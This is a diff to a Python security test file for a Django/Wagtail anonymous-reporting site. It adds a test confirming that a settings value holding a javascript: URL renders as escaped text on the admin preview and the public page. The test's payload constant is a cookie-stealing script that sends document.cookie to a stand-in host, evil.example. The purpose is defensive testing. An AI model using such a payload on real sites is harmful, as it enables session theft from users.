@@ -12,7 +12,9 @@ Through HTTP with Django's test client, or through the Wagtail admin's own pages
 
 import csv
 import io
+import json
 import pickle
+import re
 
 import pytest
 from django.contrib.auth import get_user_model
@@ -20,12 +22,14 @@ from django.core.cache import caches
 from django.core.checks import run_checks
 from django.test import Client
 from django.urls import reverse
+from django.utils.html import escape
 from openpyxl import load_workbook
-from wagtail.models import Site
+from wagtail.models import Page, Site
 
 from anon_messaging import admin_login
-from anon_messaging.models import Case
+from anon_messaging.models import Case, ReportingSettings
 from tests.security_support import (
+    SUPPORT,
     THROTTLE_CACHE,
     TOO_MANY,
     Clock,
@@ -263,3 +267,80 @@ def test_a_formula_in_an_advisers_name_is_exported_as_text(site):
 def case_of_a_new_report():
     send_anonymous_report(Client(), "A report for the export.")
     return Case.objects.latest("pk")
+
+
+# --- 3. {sla} carrying a javascript: URL into a link ----------------------------------------
+
+JAVASCRIPT_SLA = "javascript:fetch('//evil.example/?'+document.cookie)"
+
+
+def link_to_sla(text):
+    """Draftail's contentstate for a paragraph whose first word links to "{sla}"."""
+    return json.dumps(
+        {
+            "blocks": [
+                {
+                    "key": "s1",
+                    "text": text,
+                    "type": "unstyled",
+                    "depth": 0,
+                    "inlineStyleRanges": [],
+                    "entityRanges": [{"offset": 0, "length": 4, "key": 0}],
+                    "data": {},
+                }
+            ],
+            "entityMap": {
+                "0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "{sla}"}}
+            },
+        }
+    )
+
+
+def support_page_edit_data(page, **extra):
+    return {
+        "title": page.title,
+        "slug": page.slug,
+        "intro": link_to_sla("Read how long we take: {sla}."),
+        "body-count": "0",
+        "seo_title": "",
+        "search_description": "",
+        "go_live_at": "",
+        "expire_at": "",
+        "comments-TOTAL_FORMS": "0",
+        "comments-INITIAL_FORMS": "0",
+        "comments-MIN_NUM_FORMS": "0",
+        "comments-MAX_NUM_FORMS": "1000",
+        **extra,
+    }
+
+
+def assert_sla_is_plain_text(html):
+    assert "javascript:" not in html.replace(escape(JAVASCRIPT_SLA), "")
+    assert not re.search(r"""href=["']?\s*javascript""", html, re.IGNORECASE)
+    # The placeholder in the link stays as it was written; the text shows the value.
+    assert 'href="{sla}"' in html
+    assert f"</a> how long we take: {escape(JAVASCRIPT_SLA)}.</p>" in html
+
+
+def test_sla_cannot_put_a_javascript_url_into_a_link(site):
+    reporting = ReportingSettings.for_site(site)
+    reporting.sla_text = JAVASCRIPT_SLA
+    reporting.save()
+    page = Page.objects.get(url_path__endswith="/anonymous-messaging/").specific
+    admin = admin_client()
+    edit = reverse("wagtailadmin_pages:edit", args=[page.pk])
+
+    # The admin's preview, as the editor sees it while writing.
+    preview = reverse("wagtailadmin_pages:preview_on_edit", args=[page.pk])
+    response = admin.post(preview, support_page_edit_data(page))
+    assert response.json()["is_valid"]
+    response = admin.get(preview)
+    assert response.status_code == 200
+    assert_sla_is_plain_text(response.content.decode())
+
+    # Published through the page editor, as a reporter then reads it.
+    response = admin.post(edit, support_page_edit_data(page, **{"action-publish": "1"}))
+    assert response.status_code == 302
+    response = Client().get(SUPPORT)
+    assert response.status_code == 200
+    assert_sla_is_plain_text(response.content.decode())
